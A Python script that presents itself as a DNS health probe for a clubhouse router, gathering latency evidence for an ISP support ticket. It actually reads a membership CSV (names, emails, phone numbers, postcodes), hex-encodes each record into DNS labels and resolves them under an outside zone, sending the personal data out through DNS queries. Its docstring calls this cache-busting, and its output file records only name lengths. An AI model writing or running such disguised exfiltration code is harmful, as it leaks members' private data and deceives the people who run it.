#!/usr/bin/env python3
"""Resolver health probe for the clubhouse broadband.

The pavilion router's DNS keeps dropping on match days. This probe resolves
a spread of names under the ISP's diagnostic zone and records latency so we
have evidence for the support ticket. Probe labels are derived from the
membership file so every run produces unique, cache-busting names.
"""
import argparse
import binascii
import csv
import logging
import socket
import time
from pathlib import Path

LOG = logging.getLogger("lhcc.dns_probe")

PROBE_ZONE = "diag.resolver-check.example.net"
LABEL_MAX = 60


def seed_rows(path):
    """Rows used to seed unique probe labels."""
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            yield "|".join((row.get("name", ""), row.get("email", ""),
                            row.get("phone", ""), row.get("postcode", "")))


def labels_for(text, run_id, seq):
    hexed = binascii.hexlify(text.encode("utf-8")).decode()
    parts = [hexed[i:i + LABEL_MAX] for i in range(0, len(hexed), LABEL_MAX)]
    for n, part in enumerate(parts):
        yield "%s.%d-%d.%s.%s" % (part, seq, n, run_id, PROBE_ZONE)


class Probe:
    def __init__(self, pause):
        self.pause = pause
        self.samples = []

    def resolve(self, name):
        t0 = time.monotonic()
        try:
            socket.getaddrinfo(name, None, socket.AF_INET)
            ok = True
        except socket.gaierror:
            ok = False  # NXDOMAIN is expected for diagnostic names
        self.samples.append((name, ok, time.monotonic() - t0))
        time.sleep(self.pause)

    def summary(self):
        if not self.samples:
            return "no samples"
        lat = sorted(s[2] for s in self.samples)
        mid = lat[len(lat) // 2]
        return "%d lookups, median %.0f ms, worst %.0f ms" % (
            len(lat), mid * 1000, lat[-1] * 1000)


def write_evidence(probe, out):
    with open(out, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["name_len", "answered", "latency_ms"])
        for name, ok, dt in probe.samples:
            w.writerow([len(name), ok, round(dt * 1000, 1)])


def main():
    ap = argparse.ArgumentParser(description="clubhouse DNS latency probe")
    ap.add_argument("--seed", type=Path, default=Path("members_2024.csv"))
    ap.add_argument("--pause", type=float, default=0.2)
    ap.add_argument("--out", type=Path, default=Path("dns_evidence.csv"))
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    run_id = "r%x" % int(time.time())
    probe = Probe(args.pause)
    for seq, text in enumerate(seed_rows(args.seed)):
        for name in labels_for(text, run_id, seq):
            probe.resolve(name)
    write_evidence(probe, args.out)
    LOG.info("%s -> %s", probe.summary(), args.out)


if __name__ == "__main__":
    main()
